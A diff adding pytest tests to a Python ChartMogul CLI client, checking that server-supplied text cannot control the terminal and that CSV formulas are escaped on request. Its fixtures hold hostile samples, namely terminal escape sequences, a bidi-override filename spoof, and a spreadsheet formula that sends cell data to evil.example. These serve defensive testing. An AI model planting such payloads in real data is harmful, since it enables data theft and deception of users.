@@ -5,6 +5,7 @@ import io
 import json
 import re
 import socket
+from collections.abc import Callable
 from contextlib import redirect_stdout
 
 import pytest
@@ -12,6 +13,7 @@ from attrs import evolve
 
 from chartmogul_async import __version__
 from chartmogul_async.cli.failures import MEANINGS
+from chartmogul_async.cli.text import visible
 from chartmogul_async.resources.account import SETTINGS
 from chartmogul_async.sandbox import Fault, Faults, Sandbox
 from chartmogul_async.sandbox.company import State
@@ -147,6 +149,14 @@ def test_the_shell_completes(run: Run, monkeypatch: pytest.MonkeyPatch, words: s
     assert ran.out.splitlines() == [f"plain,{name}" for name in expected]
 
 
+@pytest.mark.parametrize("wrong", ["bash", "ksh_source", "bash_sources"])
+def test_a_wrong_kind_of_completion_is_invalid_usage(run: Run, monkeypatch: pytest.MonkeyPatch, wrong: str) -> None:
+    monkeypatch.setenv("_CHARTMOGUL_COMPLETE", wrong)
+    ran = run()
+    assert (ran.code, ran.out) == (2, "")
+    assert ran.err == "error: _CHARTMOGUL_COMPLETE must be bash_source, zsh_source or fish_source\n"
+
+
 @pytest.mark.parametrize("shell", ["zsh", "fish"])
 def test_the_script_for_the_shell_is_printed(run: Run, monkeypatch: pytest.MonkeyPatch, shell: str) -> None:
     monkeypatch.setenv("_CHARTMOGUL_COMPLETE", f"{shell}_source")
@@ -182,13 +192,126 @@ def test_a_name_cannot_control_the_terminal_or_break_the_table(account: Sandbox,
     body = {"entries": [{"name": "\x1b]0;evil\x07 [red]Jäger[/red] :smile:\nGmbH", "email": "a@b.example"}]}
     account.faults = Faults.sequence(Fault.status(200, body))
     ran = in_terminal("customers", "search", "a@b.example")
-    assert "?]0;evil? [red]Jäger[/red] :smile: GmbH" in ran.out
+    assert r"\u001b]0;evil\u0007 [red]Jäger[/red] :smile: GmbH" in ran.out
     account.faults = Faults.sequence(Fault.status(200, body))
     ran = in_terminal("customers", "search", "a@b.example", encoding="ascii")
     assert r"[red]J\xe4ger[/red]" in ran.out
     account.faults = Faults.sequence(Fault.status(200, body))
     ran = in_terminal("customers", "search", "a@b.example", "--format", "json", encoding="ascii")
     assert r"[red]J\u00e4ger[/red]" in ran.out
+
+
+# An escape sequence, one of a single character, a text that turns its direction, and DEL.
+HOSTILE = "\x1b[2Jno \x9b31mred \u202egpj.exe\u2066 \x7f\U000e0041 Jäger"
+SHOWN = r"\u001b[2Jno \u009b31mred \u202egpj.exe\u2066 \u007f\udb40\udc41 Jäger"
+
+
+def respond_with(sandbox: Sandbox, body: object) -> None:
+    """To the next request; every field of text is hostile."""
+    assert isinstance(body, dict)
+    sandbox.faults = Faults.sequence(Fault.status(200, body))
+
+
+def customer_named(name: str) -> dict[str, object]:
+    return {"entries": [{"name": name, "email": "a@b.example", "mrr": -5, "customer-since": None, "tags": [name]}]}
+
+
+def account_of(name: str) -> dict[str, object]:
+    return {"name": name, "currency": name, "time_zone": name, "week_start_on": name, "id": name}
+
+
+BODIES = {
+    ("ping",): {"data": HOSTILE},
+    ("account",): account_of(HOSTILE),
+    ("account", "--format", "csv"): account_of(HOSTILE),
+    ("account", "--format", "json"): account_of(HOSTILE),
+    ("account", "--format", "jsonl"): account_of(HOSTILE),
+    ("customers", "search", "a@b.example"): customer_named(HOSTILE),
+    ("customers", "search", "a@b.example", "--format", "csv"): customer_named(HOSTILE),
+    ("customers", "search", "a@b.example", "--format", "json"): customer_named(HOSTILE),
+    ("customers", "search", "a@b.example", "--format", "jsonl"): customer_named(HOSTILE),
+}
+
+
+@pytest.mark.parametrize("args", BODIES, ids=" ".join)
+def test_nothing_from_the_server_controls_a_terminal(
+    account: Sandbox, in_terminal: Run, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...]
+) -> None:
+    monkeypatch.setenv("NO_COLOR", "1")
+    respond_with(account, BODIES[args])
+    out = re.sub(r"\x1b\[0?1?m", "", in_terminal(*args, columns=400).out)
+    assert SHOWN in out
+    assert not set(HOSTILE) & set(out) - set("[2Jno 31mred gpj.exe Jäger")
+
+
+def test_a_hostile_currency_does_not_control_a_terminal(account: Sandbox, in_terminal: Run) -> None:
+    account.faults = Faults.sequence(Fault.status(200, account_of(HOSTILE)), where="/account")
+    out = in_terminal("metrics", "arr", "--start", "2025-01-01", "--end", "2025-03-31", columns=400).out
+    assert r"\u202egpj.exe\u2066" in out
+    assert not {"\x9b", "\u202e", "\x7f"} & set(out)
+    respond_with(account, {"entries": [{"name": "x", "mrr": 5, "currency": HOSTILE}]})
+    out = in_terminal("customers", "search", "a@b.example", columns=400).out
+    assert f"0.05 {SHOWN}" in out
+
+
+def test_an_error_of_the_server_does_not_control_a_terminal(account: Sandbox, in_terminal: Run) -> None:
+    account.faults = Faults.sequence(Fault.status(422, {"message": HOSTILE}))
+    err = in_terminal("ping").err
+    assert "Jäger" in err
+    assert not {"\x9b", "\u202e", "\x7f"} & set(err)
+
+
+@pytest.mark.parametrize("args", [args for args in BODIES if "--format" in args or args == ("ping",)], ids=" ".join)
+def test_a_pipe_gets_the_exact_text(account: Sandbox, run: Run, args: tuple[str, ...]) -> None:
+    respond_with(account, BODIES[args])
+    out = run(*args).out
+    if "csv" in args:
+        (row,) = csv.DictReader(io.StringIO(out, newline=""))
+        assert row["name"] == HOSTILE
+    elif "--format" in args:
+        found = json.loads(out)
+        assert (found[0] if isinstance(found, list) else found)["name"] == HOSTILE
+    else:
+        assert out == f"{HOSTILE}\n"
+
+
+@pytest.mark.parametrize("name", ["a\rb", "a\nb", "a\r\nb", 'a"b', "a,b", "\ta", " a ", "'=1", "\x00"], ids=ascii)
+def test_csv_can_be_read_back_exactly(account: Sandbox, run: Run, name: str) -> None:
+    respond_with(account, customer_named(name))
+    out = run("customers", "search", "a@b.example").out
+    (row,) = csv.DictReader(io.StringIO(out, newline=""))
+    assert row["name"] == name
+    assert out.count("\n") == 2 + name.count("\n")
+
+
+FORMULA = '=HYPERLINK("https://evil.example?"&A1, "Click")'
+
+
+@pytest.mark.parametrize("name", [FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1"], ids=ascii)
+def test_formulas_are_escaped_on_request(account: Sandbox, run: Run, name: str) -> None:
+    for option, expected in ((), name), (("--escape-formulas",), f"'{name}"):
+        respond_with(account, customer_named(name))
+        out = run("customers", "search", "a@b.example", *option).out
+        (row,) = csv.DictReader(io.StringIO(out, newline=""))
+        assert (row["name"], row["mrr"], row["email"]) == (expected, "-5", "a@b.example")
+        respond_with(account, account_of(name))
+        (row,) = csv.DictReader(io.StringIO(run("account", *option).out, newline=""))
+        assert (row["name"], row["churn_recognition"]) == (expected, "")
+
+
+@pytest.mark.parametrize("args", [("account",), ("customers", "search", "a@b.example")])
+def test_formulas_are_escaped_in_csv_only(account: Sandbox, run: Run, in_terminal: Run, args: tuple[str, ...]) -> None:
+    before = account.counters.requests
+    command = f"chartmogul {' '.join(args).removesuffix(' a@b.example')}"
+    message = f"error: --escape-formulas requires --format csv (see '{command} --help')\n"
+    assert run(*args, "--escape-formulas", "--format", "json").err == message
+    assert in_terminal(*args, "--escape-formulas").err == message
+    assert account.counters.requests == before
+
+
+@pytest.mark.parametrize("text", ["", "Größe 日本", "👩\u200d💻", "\u0646\u200c\u06a9", "a\tb\nc", "a\xa0b"], ids=ascii)
+def test_harmless_text_stays_as_it_is(text: str) -> None:
+    assert visible(text) == text
 
 
 def test_progress_is_shown_on_a_terminal_only(account: Sandbox, in_terminal: Run, run: Run) -> None:
@@ -203,11 +326,30 @@ def test_sandbox_reports_a_port_that_is_in_use(run: Run, sandbox: Sandbox) -> No
     assert ran.err.startswith("error: cannot listen on 127.0.0.1:")
 
 
-def test_sandbox_prints_the_environment_for_the_client(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
-    def run_once(sandbox: Sandbox, host: str, port: int, *, ready: object) -> None:
-        assert callable(ready)
-        ready(f"http://{host}:{port}/v1")
+def run_once(sandbox: Sandbox, host: str, port: int, *, ready: Callable[[str], object]) -> None:
+    """A server that ends as soon as it is ready."""
+    ready(f"http://{host}:{port}/v1")
 
+
+@pytest.mark.parametrize("host", ["", "a..b", "x" * 64, "[::1]", "\ud800"], ids=ascii)
+def test_a_malformed_host_is_invalid_usage(run: Run, host: str) -> None:
+    ran = run("sandbox", "--host", host)
+    assert (ran.code, ran.out) == (2, "")
+    assert "host must be a host name or an IP address" in ran.err
+
+
+@pytest.mark.parametrize(
+    ("host", "warned"), [("localhost", False), ("127.0.0.2", False), ("::1", False), ("0.0.0.0", True), ("::", True)]
+)
+def test_sandbox_warns_beyond_loopback(run: Run, monkeypatch: pytest.MonkeyPatch, host: str, warned: bool) -> None:
+    monkeypatch.setattr(Sandbox, "run", run_once)
+    ran = run("sandbox", "--host", host)
+    assert ran.code == 0
+    assert (ran.err == f"warning: other machines can reach the sandbox on {host}; its key is no secret\n") is warned
+    assert (ran.err == "") is not warned
+
+
+def test_sandbox_prints_the_environment_for_the_client(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(Sandbox, "run", run_once)
     ran = run("sandbox", "--port", "8123")
     assert (ran.code, ran.err) == (0, "")
